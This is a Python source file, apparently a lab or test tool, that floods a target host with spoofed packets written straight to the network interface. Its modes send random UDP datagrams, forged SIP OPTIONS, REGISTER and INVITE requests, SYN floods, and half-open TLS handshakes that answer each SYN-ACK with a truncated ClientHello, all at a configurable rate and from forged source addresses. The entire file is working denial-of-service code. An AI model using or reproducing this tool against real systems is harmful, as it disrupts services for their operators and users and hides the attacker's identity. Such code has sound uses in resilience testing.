"""A flood, as a program of its own: ``python flood.py KIND ADDRESSES RATE SECONDS INTERFACE TARGET PORT``.

It writes frames on the wire (AF_PACKET), so their senders are whoever it says: one address, a thousand, or
another one for each packet. Runs in the namespace of the attacker. Prints how many frames were sent.

KIND is garbage, options, register, invite (datagrams), syn, or tls: handshakes that stay half-open. Of
the latter each packet of the server is answered by what it says, without any memory: so there may be as many
as somebody likes, from whatever address.
"""

from __future__ import annotations

import random
import socket
import struct
import subprocess
import sys
import time

_TEMPLATES = 512
_ROUNDS = 0.005  # seconds between two bursts
_IPV4 = 0x0800
_SYN, _ACK, _PUSH = 2, 16, 8
#: The beginning of a ClientHello of 512 bytes, of which nothing more comes.
_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


def main(kind: str, addresses: str, rate: str, seconds: str, interface: str, target: str, port: str) -> None:
    print(frames(kind, int(addresses), int(rate), float(seconds), interface, target, int(port)))


def frames(
    kind: str, addresses: int, rate: int, seconds: float, interface: str, target: str, port: int
) -> int:
    """``addresses`` 0: another one for each packet. How many were sent, answers of tls not counted."""
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    wire.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    ethernet = _mac_of(target) + wire.getsockname()[4] + struct.pack(">H", _IPV4)
    made = [_packet(kind, number, target, port) for number in range(_TEMPLATES)]
    senders = [_address(number) for number in range(addresses)]
    heard = _listening(interface) if kind == "tls" else None
    began, sent = time.monotonic(), 0
    while (now := time.monotonic()) < began + seconds:
        for _ in range(int((now - began) * rate) - sent):
            sender = senders[sent % addresses] if addresses else random.randbytes(4)
            if not addresses:
                sender = bytes([11 + sender[0] % 80]) + sender[1:]
            _put(wire, ethernet + _from(sender, made[sent % _TEMPLATES]))
            sent += 1
        if heard is not None:
            _greet(heard, wire, ethernet, target, port)
        time.sleep(_ROUNDS)
    return sent


def _put(wire: socket.socket, frame: bytes) -> None:
    try:
        wire.send(frame)
    except OSError:
        pass  # the queue is full: one packet less


def _listening(interface: str) -> socket.socket:
    """What comes to the interface."""
    heard = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_IPV4))
    heard.bind((interface, _IPV4))
    heard.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
    heard.setblocking(False)
    return heard


def _greet(heard: socket.socket, wire: socket.socket, ethernet: bytes, target: str, port: int) -> None:
    """Each SYN-ACK is acknowledged, with the beginning of a greeting."""
    while True:
        try:
            packet = heard.recv(2048)[14:]
        except BlockingIOError:
            return
        if len(packet) < 40 or packet[9] != 6 or packet[0] != 0x45:
            continue
        theirs, ours, sequence, acknowledged, _, flags = struct.unpack(">HHIIBB", packet[20:34])
        if theirs != port or flags & (_SYN | _ACK) != _SYN | _ACK:
            continue
        head = _tcp(ours, port, acknowledged, (sequence + 1) & 0xFFFFFFFF, _ACK | _PUSH)
        _put(wire, ethernet + _from(packet[16:20], _ip(6, head + _HELLO, target)))


def _address(number: int) -> bytes:
    return bytes([10, 99, number >> 8 & 255, number & 255])


def _packet(kind: str, number: int, target: str, port: int) -> bytes:
    """An IP packet whose sender and checksum are still missing."""
    if kind in ("syn", "tls"):
        return _ip(6, _tcp(1024 + number, port, random.getrandbits(32), 0, _SYN), target)
    data = _datagram(kind, number, target)
    return _ip(17, struct.pack(">HHHH", 1024 + number, port, 8 + len(data), 0) + data, target)


def _datagram(kind: str, number: int, target: str) -> bytes:
    if kind == "garbage":
        return random.randbytes(300)
    method, uri = {
        "options": ("OPTIONS", f"sip:{target}"),
        "register": ("REGISTER", f"sip:{target}"),
        "invite": ("INVITE", f"sip:{1000 + number}@{target}"),
    }[kind]
    user, mark = f"user{random.getrandbits(32)}", f"{random.getrandbits(64):x}"
    lines = [
        f"{method} {uri} SIP/2.0",
        f"Via: SIP/2.0/UDP 192.0.2.{number % 250}:5060;branch=z9hG4bK{mark};rport",
        "Max-Forwards: 70",
        f"From: <sip:{user}@{target}>;tag={mark}",
        f"To: <sip:{user}@{target}>",
        f"Call-ID: {mark}{number}",
        f"CSeq: 1 {method}",
        f"Contact: <sip:{user}@192.0.2.{number % 250}>",
        "User-Agent: Telephone",
        "Content-Length: 0",
    ]
    return "\r\n".join([*lines, "", ""]).encode()


def _tcp(ours: int, theirs: int, sequence: int, acknowledged: int, flags: int) -> bytes:
    return struct.pack(">HHIIBBHHH", ours, theirs, sequence, acknowledged, 5 << 4, flags, 64_000, 0, 0)


def _ip(protocol: int, payload: bytes, target: str) -> bytes:
    head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol, 0)
    return head + bytes(4) + socket.inet_aton(target) + payload


def _from(sender: bytes, packet: bytes) -> bytes:
    """The packet with its sender; the checksums of IP and of TCP belong to it (UDP may go without)."""
    head = packet[:12] + sender + packet[16:20]
    payload = packet[20:]
    if packet[9] == 6:
        pseudo = head[12:20] + struct.pack(">BBH", 0, 6, len(payload))
        payload = payload[:16] + struct.pack(">H", _checksum(pseudo + payload)) + payload[18:]
    return head[:10] + struct.pack(">H", _checksum(head)) + head[12:] + payload


def _checksum(data: bytes) -> int:
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


def _mac_of(target: str) -> bytes:
    probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(50):
        probe.sendto(b"", (target, 9))
        told = subprocess.run(["ip", "neigh", "show", target], capture_output=True, text=True, check=True)
        if "lladdr" in told.stdout:
            return bytes.fromhex(told.stdout.partition("lladdr ")[2].split()[0].replace(":", ""))
        time.sleep(0.1)
    raise SystemExit(f"{target} does not answer")


if __name__ == "__main__":
    main(*sys.argv[1:])
